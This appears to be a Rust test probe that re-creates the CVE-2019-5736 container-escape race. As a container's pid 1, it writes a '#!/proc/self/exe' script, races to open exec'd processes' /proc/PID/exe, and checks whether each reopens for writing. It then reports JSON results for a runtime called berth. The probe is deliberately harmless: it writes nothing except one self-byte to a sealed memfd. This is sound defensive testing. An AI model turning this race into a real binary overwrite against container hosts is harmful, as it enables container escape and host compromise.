//! `probe exe-attack SCRIPT CATCHES SECONDS`: the CVE-2019-5736 attack, as a container's pid 1
//! (it refuses to run as anything else, so it never runs on the host).
//!
//! It writes SCRIPT (`#!/proc/self/exe`, 0755), prints `{"ready":true,"pid":1}`, and then
//! waits for processes exec'd into the container (`berth-run exec CTR SCRIPT`). For each
//! one it opens /proc/PID/exe with O_PATH as soon as the kernel lets it (berth's child is
//! non-dumpable until it execs: EACCES until then), records what it got (the link's text,
//! device, inode), and then tries to reopen it through /proc/self/fd/N for writing until that
//! works or the process has been gone for a while (ETXTBSY while it runs). A successful open
//! is the vulnerability; the file is closed again *without writing* - except when it is a
//! memfd (`/memfd:…`, berth's sealed copy of berth-dmz, which lives in berth's memory only):
//! then one byte is written back over itself, to show that the seals refuse it.
//! One JSON line per catch:
//! `{"catch":N,"pid","exe","dev","ino","nlink","write_open","errno","err","write_errno"}`
//! (`errno` of the last failed reopen, `write_errno` null unless a memfd was reopened), or
//! `{"missed":PID}` when the process was gone before its exe opened (a lost race), and
//! after CATCHES catches or SECONDS seconds `{"done":true,"catches","denied"}` (`denied`:
//! processes whose exe stayed closed to it: EACCES, non-dumpable).

use std::fs::{File, OpenOptions};
use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt, PermissionsExt};
use std::time::{Duration, Instant};

use super::{emit, errno_fields, o, q};

const O_PATH: i32 = 0o10_000_000;
const EACCES: i32 = 13;

fn errno_of(e: &std::io::Error) -> i32 {
    e.raw_os_error().unwrap_or(-1)
}

/// The pids in /proc other than ours.
fn other_pids(own: i64) -> Vec<i64> {
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    dir.flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<i64>().ok())
        .filter(|&pid| pid != own)
        .collect()
}

/// Gone, or a zombie (its exe is released once it has exited).
fn exited(pid: i64) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(stat) => stat
            .rsplit_once(") ")
            .is_some_and(|(_, rest)| rest.starts_with('Z') || rest.starts_with('X')),
        Err(_) => true,
    }
}

enum Grab {
    Got(File),
    /// Gone before its exe could be opened; `denied`: it was non-dumpable until then.
    Gone {
        denied: bool,
    },
    /// Still EACCES after 5 s.
    Denied,
}

/// /proc/PID/exe with O_PATH: spins while the kernel says EACCES (berth's non-dumpable
/// child, before its exec), up to 5 s.
fn grab_exe(pid: i64) -> Grab {
    let path = format!("/proc/{pid}/exe");
    let start = Instant::now();
    let mut denied = false;
    loop {
        match OpenOptions::new()
            .read(true)
            .custom_flags(O_PATH)
            .open(&path)
        {
            Ok(file) => return Grab::Got(file),
            Err(e) if errno_of(&e) == EACCES && start.elapsed() < Duration::from_secs(5) => {
                denied = true;
                // Leave the CPU to berth's child (two CPUs: a busy loop can starve it).
                std::thread::yield_now();
            }
            Err(e) if errno_of(&e) == EACCES => return Grab::Denied,
            Err(_) => return Grab::Gone { denied },
        }
    }
}

/// One catch: what the exe is and whether it opens for writing. Writes nothing unless the
/// exe is a memfd, and then only its own first byte back over itself.
fn attack(catch: u64, pid: i64, exe: File) -> String {
    use std::os::fd::AsRawFd;
    let fd_path = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let target = std::fs::read_link(&fd_path)
        .map(|p| p.display().to_string())
        .unwrap_or_default();
    let meta = exe.metadata().ok();
    // errno: of the last failed reopen (0 if none failed).
    let (mut errno, mut opened, mut gone_since) = (0, None, None::<Instant>);
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(5) {
        match OpenOptions::new().write(true).open(&fd_path) {
            Ok(file) => {
                opened = Some(file);
                break;
            }
            Err(e) => errno = errno_of(&e),
        }
        match gone_since {
            Some(t) if t.elapsed() > Duration::from_millis(200) => break,
            Some(_) => {}
            None if exited(pid) => gone_since = Some(Instant::now()),
            None => {}
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    let write_open = opened.is_some();
    let memfd = target.starts_with("/memfd:") || target.starts_with("memfd:");
    let write_errno = match (opened, memfd) {
        (Some(writer), true) => {
            let mut byte = [0u8; 1];
            let read = File::open(&fd_path).and_then(|r| r.read_at(&mut byte, 0));
            match read.and_then(|_| writer.write_at(&byte, 0)) {
                Ok(_) => "0".to_string(),
                Err(e) => errno_of(&e).to_string(),
            }
        }
        // Anything else is closed unwritten.
        _ => "null".to_string(),
    };
    let mut fields = vec![
        ("catch", catch.to_string()),
        ("pid", pid.to_string()),
        ("exe", q(&target)),
        ("dev", meta.as_ref().map_or(0, |m| m.dev()).to_string()),
        ("ino", meta.as_ref().map_or(0, |m| m.ino()).to_string()),
        ("nlink", meta.as_ref().map_or(0, |m| m.nlink()).to_string()),
        ("write_open", write_open.to_string()),
        ("write_errno", write_errno),
    ];
    fields.extend(errno_fields(errno));
    o(&fields)
}

pub(super) fn run(script: &str, catches: u64, seconds: f64) {
    let own = i64::from(std::process::id());
    if own != 1 {
        eprintln!("probe exe-attack runs only as a container's pid 1");
        std::process::exit(2);
    }
    let written = std::fs::write(script, "#!/proc/self/exe\n")
        .and_then(|()| std::fs::set_permissions(script, std::fs::Permissions::from_mode(0o755)));
    if let Err(e) = written {
        eprintln!("probe exe-attack: writing {script}: {e}");
        std::process::exit(1);
    }
    emit(o(&[("ready", "true".into()), ("pid", own.to_string())]));
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let (mut caught, mut denied) = (0u64, 0u64);
    let mut seen = std::collections::HashSet::new();
    while caught < catches && Instant::now() < deadline {
        for pid in other_pids(own) {
            if !seen.insert(pid) {
                continue;
            }
            match grab_exe(pid) {
                Grab::Got(exe) => {
                    caught += 1;
                    emit(attack(caught, pid, exe));
                }
                // Lost the race (the test execs again).
                Grab::Gone { denied: true } => emit(o(&[("missed", pid.to_string())])),
                Grab::Gone { denied: false } => {}
                Grab::Denied => denied += 1,
            }
        }
    }
    emit(o(&[
        ("done", "true".into()),
        ("catches", caught.to_string()),
        ("denied", denied.to_string()),
    ]));
}
